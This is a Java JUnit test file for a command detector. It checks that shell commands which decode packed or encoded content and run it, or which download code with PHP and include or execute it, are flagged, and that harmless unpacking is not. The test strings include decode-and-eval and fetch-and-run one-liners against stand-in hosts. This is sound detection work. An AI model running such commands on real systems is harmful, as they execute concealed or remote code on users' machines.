package dev.assay.detectors.indicator.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.indicator.command.Trait.Kind;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Programs that lie packed, encoded or encrypted, and are run out of that. */
class PackedTest {
    private static final String BLOB =
            "Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkLCB0aGlzIGlzIGEgdGVzdCcpOyBjb25zb2xlLmxvZygneCcpOw==";

    private static List<Kind> kinds(String text) {
        return CommandJudge.traits(text.replace("BLOB", BLOB)).stream()
                .map(Trait::kind)
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "gunzip -c test/x.gz | sh",
                "cat test/x.gz | gunzip | bash",
                "zcat x.gz | node",
                "xz -dc x.xz | sh -s",
                "unzip -p x.zip run.sh | sh",
                "tar -xOf x.tar run.sh | sh",
                "openssl enc -d -aes-256-cbc -in a.dat -out /tmp/x -k p && sh /tmp/x",
                "base64 -d -i a.txt -o /tmp/x; chmod +x /tmp/x; /tmp/x",
                "ruby -e \"eval('BLOB'.unpack1('m'))\"",
                "ruby -e \"eval 'BLOB'.unpack('m0')[0]\"",
                "perl -MMIME::Base64 -e \"eval decode_base64('BLOB')\"",
                "perl -e \"eval unpack('u', 'BLOB')\"",
                "php -r \"eval(gzinflate(base64_decode('BLOB')));\"",
                "php -r \"eval(hex2bin('BLOB'));\"",
                "node -e \"eval(Buffer.from('BLOB','hex').toString())\"",
            })
    void whatIsPackedIsRun(String text) {
        assertThat(kinds(text)).containsExactly(Kind.RUNS_DECODED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "gunzip -c dump.sql.gz | psql",
                "gunzip x.gz | sh",
                "zcat x.gz | node load.js",
                "zcat x.gz | grep sh",
                "xz -c x | sh",
                "gzip -c x | ssh host",
                "tar -xf Out.tar | sh",
                "gunzip -c tool.gz > tool; chmod +x tool; ./tool",
                "curl -sL https://host.example/t.gz | gunzip -c > t && chmod +x t",
                "openssl enc -d -aes-256-cbc -in a.dat -out data.tar -k p && tar xf data.tar",
                "openssl dgst -out x a.dat; sh x",
                "ruby -e \"puts 'BLOB'.unpack1('m')\"",
                "perl -e \"print decode_base64('BLOB')\"",
                "perl -e \"eval unpack('u', 'short')\"",
                "php -r \"echo hex2bin('BLOB');\"",
            })
    void whatIsPackedIsOnlyUnpacked(String text) {
        assertThat(kinds(text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "php -r \"copy('https://a.example/x','x.php');include 'x.php';\"",
                "php -r \"copy('https://a.example/x', '/tmp/x.php'); require_once('/tmp/x.php');\"",
                "php -r \"copy('https://a.example/x', 'x.sh'); system('sh x.sh');\"",
                "php -r \"file_put_contents('x.php', file_get_contents('https://a.example/x')); include('x.php');\"",
            })
    void whatPhpCopiesIsRun(String text) {
        assertThat(kinds(text)).contains(Kind.RUNS_DOWNLOAD);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "php -r \"copy('https://a.example/x','x.json');include 'y.php';\"",
                "php -r \"copy('.env.example', '.env'); include '.env';\"",
                "php -r \"copy('https://a.example/x','x.php'); if (hash_file('sha384', 'x.php') !== $h) exit; include 'x.php';\"",
            })
    void whatPhpCopiesIsNotRun(String text) {
        assertThat(kinds(text)).isEmpty();
    }
}
